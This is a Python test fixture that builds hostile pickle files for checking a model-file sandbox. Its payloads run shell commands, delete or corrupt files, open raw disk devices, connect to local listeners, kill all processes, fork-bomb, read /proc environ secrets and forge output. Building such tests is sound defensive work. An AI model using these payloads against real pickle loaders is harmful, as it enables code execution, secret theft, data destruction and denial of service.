"""Pickles that do harm when they are read: what a hostile .pt file may be."""

from __future__ import annotations

import code
import cProfile
import functools
import importlib
import io
import marshal
import operator
import os
import pathlib
import pickle
import posix
import pty
import shutil
import smtplib
import socket
import subprocess
import tempfile
import timeit
import urllib.request
import webbrowser
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Canaries:
    """What no gadget may touch. tcp, udp: ports of listeners. marker: in no command line."""

    directory: str
    tcp: int
    udp: int
    unix: str
    abstract: str
    pid: int
    marker: str


class Call:
    """Pickled as a call of a function, made when it is read."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def run(source: str) -> Call:
    return Call(exec, source, {})


def gadgets(it: Canaries) -> dict[str, bytes]:
    """Return the pickles by what they do."""
    here = it.directory
    new, old = f"{here}/new", f"{here}/old"
    touch = f"touch {new}"
    url = f"http://127.0.0.1:{it.tcp}/"
    stay = f"exec -a {it.marker} sleep 60"
    shell = ["/bin/bash", "-c", touch]
    made: dict[str, Any] = {
        # A shell
        "os.system": Call(os.system, touch),
        "posix.system": Call(posix.system, touch),
        "os.popen": Call(os.popen, touch),
        "subprocess.Popen": Call(subprocess.Popen, shell),
        "subprocess.check_output": Call(subprocess.check_output, shell),
        "subprocess.getoutput": Call(subprocess.getoutput, touch),
        "os.execv": Call(os.execv, "/bin/bash", shell),
        "os.posix_spawn": Call(os.posix_spawn, "/bin/bash", shell, {}),
        "os.spawnlp": Call(os.spawnlp, os.P_WAIT, "bash", *shell),
        "pty.spawn": Call(pty.spawn, shell),
        "asyncio": run(
            "import asyncio; asyncio.run(asyncio.create_subprocess_shell(" + repr(touch) + "))"
        ),
        "multiprocessing": run(
            f"import multiprocessing, os\np = multiprocessing.get_context('fork').Process("
            f"target=os.system, args=({touch!r},)); p.start(); p.join()"
        ),
        # Python
        "exec": run(f"open({new!r}, 'w')"),
        "eval": Call(eval, f"open({new!r}, 'w')", {}),
        "compile": Call(exec, Call(compile, f"open({new!r}, 'w')", "x", "exec"), {}),
        "__import__": Call(operator.methodcaller("system", touch), Call(__import__, "os")),
        "importlib": Call(
            operator.methodcaller("system", touch), Call(importlib.import_module, "os")
        ),
        "getattr": run(f"getattr(__import__('o' + 's'), 'sys' + 'tem')({touch!r})"),
        "functools.reduce": Call(functools.reduce, os.system, [touch, touch][:1], touch),
        "functools.partial": Call(operator.call, functools.partial(os.system, touch)),
        "map": Call(list, Call(map, os.system, [touch])),
        "marshal": run(
            f"import marshal, types; types.FunctionType(marshal.loads({_code(new)!r}), "
            "{'open': open})()"
        ),
        "timeit": Call(timeit.timeit, f"open({new!r}, 'w')", "pass", timeit.default_timer, 1),
        "cProfile": Call(cProfile.run, f"open({new!r}, 'w')"),
        "code": Call(
            operator.methodcaller("runsource", f"open({new!r}, 'w')"),
            Call(code.InteractiveInterpreter),
        ),
        "runpy": run(
            f"import runpy; open('x.py', 'w').write('open({new!r}, \"w\")'); runpy.run_path('x.py')"
        ),
        "atexit": run(f"import atexit; atexit.register(open, {new!r}, 'w')"),
        "ctypes": run(f"import ctypes; ctypes.CDLL(None).system({touch.encode()!r})"),
        # Files
        "open": Call(open, new, "w"),
        "io.open": Call(io.open, new, "w"),
        "os.open": Call(os.open, new, os.O_CREAT | os.O_WRONLY),
        "os.mkdir": Call(os.mkdir, new),
        "Path.write_text": Call(pathlib.Path.write_text, pathlib.PosixPath(new), "x"),
        "tempfile": Call(tempfile.mkstemp, "", "", here),
        "shutil.copy": Call(shutil.copy, "/bin/sh", new),
        "shutil.rmtree": Call(shutil.rmtree, here),
        "os.remove": Call(os.remove, old),
        "os.rename": Call(os.rename, old, new),
        "os.truncate": Call(os.truncate, old, 0),
        "os.link": Call(os.link, old, new),
        "os.symlink": Call(os.symlink, old, new),
        "os.mkfifo": Call(os.mkfifo, new),
        "os.chmod": Call(os.chmod, here, 0),
        "/dev/sda": run(
            "import os; os.open('/dev/mem', os.O_RDWR); os.open('/dev/sda', os.O_RDWR)"
        ),
        "mount": run(
            "import ctypes; l = ctypes.CDLL(None, use_errno=True)\n"
            f"assert l.mount(b'none', {here.encode()!r}, b'tmpfs', 0, b'') == 0"
        ),
        # Connections
        "socket": Call(socket.create_connection, ("127.0.0.1", it.tcp), 1.0),
        "urllib": Call(urllib.request.urlopen, url, None, 1.0),
        "http.client": run(
            f"import http.client; http.client.HTTPConnection('127.0.0.1', {it.tcp}).connect()"
        ),
        "smtplib": Call(smtplib.SMTP, "127.0.0.1", it.tcp, "me", 1.0),
        "ftplib": run(f"import ftplib; ftplib.FTP().connect('127.0.0.1', {it.tcp}, 1.0)"),
        "webbrowser": Call(webbrowser.open, url),
        "/dev/tcp": Call(os.system, f"bash -c 'echo x > /dev/tcp/127.0.0.1/{it.tcp}'"),
        "udp": run(
            "import socket; socket.socket(type=socket.SOCK_DGRAM)"
            f".sendto(b'x', ('127.0.0.1', {it.udp}))"
        ),
        "unix": run(f"import socket; socket.socket(socket.AF_UNIX).connect({it.unix!r})"),
        "abstract": run(f"import socket; socket.socket(socket.AF_UNIX).connect({it.abstract!r})"),
        # Processes
        "kill the platform": Call(os.kill, it.pid, 9),
        "kill everybody": Call(os.kill, -1, 9),
        "kill the group": run(
            "import os, signal; signal.signal(15, lambda *_: 0); os.killpg(0, 15)"
        ),
        "stay behind": Call(os.system, f"bash -c 'setsid bash -c \"{stay}\" &'"),
        "a daemon": run(
            "import os\nif os.fork() == 0:\n os.setsid()\n if os.fork() == 0:\n"
            f"  os.execv('/bin/bash', ['bash', '-c', {stay!r}])\n os._exit(0)"
        ),
        "ptrace": run(
            "import ctypes, os; l = ctypes.CDLL(None, use_errno=True)\n"
            f"assert l.ptrace(16, {it.pid}, 0, 0) == 0 or l.ptrace(16, os.getppid(), 0, 0) == 0"
        ),
        "namespaces": run(
            "import ctypes; l = ctypes.CDLL(None, use_errno=True); l.unshare(0x10020000)\n"
            f"l.mount(b'none', {here.encode()!r}, b'tmpfs', 0, b''); open({new!r}, 'w')"
        ),
        "limits": run(
            "import resource\nfor k in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):\n"
            " resource.setrlimit(k, (-1, -1))"
        ),
        # Words
        "another's secrets": run(
            "import os, sys\nfor p in ('/proc/1/environ', f'/proc/{os.getppid()}/environ'):\n"
            " os.write(1, open(p, 'rb').read())\nsys.exit(1)"
        ),
        "a forged answer": run(
            'import os; os.write(1, b\'{"family": "yolox", "classes": ["a"]}\'); os._exit(0)'
        ),
        "a forged refusal": run(
            'import os; os.write(1, b\'{"refused": "see \\\\u001b[2Jhttp://evil"}\'); os._exit(1)'
        ),
        "the input": run(
            "import glob, os\nfor p in glob.glob('/proc/self/fd/*'):\n"
            " f = os.open(p, os.O_RDWR); os.pwrite(f, b'x', 0)"
        ),
    }
    return {name: pickle.dumps(gadget) for name, gadget in made.items()}


def floods() -> dict[str, bytes]:
    """Return the pickles that take what there is: time, memory, processes, space."""
    made = {
        "time": run("while True: pass"),
        "sleep": run(
            "import signal, time; signal.pthread_sigmask(0, range(1, 65)); time.sleep(99)"
        ),
        "processes": run("import os\nwhile True: os.fork()"),
        "output": run("import os\nwhile True: os.write(1, b'x' * 65536)"),
        "the result": run(
            "import os, sys\nf = os.open(sys.argv[2], os.O_RDWR)\n"
            "while True: os.write(f, b'x' * (1 << 20))"
        ),
        "a sparse result": run("import os, sys\nos.truncate(sys.argv[2], 1 << 40); os._exit(0)"),
        "the scratch directory": run("f = open('x', 'wb')\nwhile True: f.write(b'x' * (1 << 20))"),
        "an address space": run("bytearray(1 << 45)"),
    }
    return {name: pickle.dumps(gadget) for name, gadget in made.items()}


def _code(path: str) -> bytes:
    return marshal.dumps(compile(f"open({path!r}, 'w')", "x", "exec"))
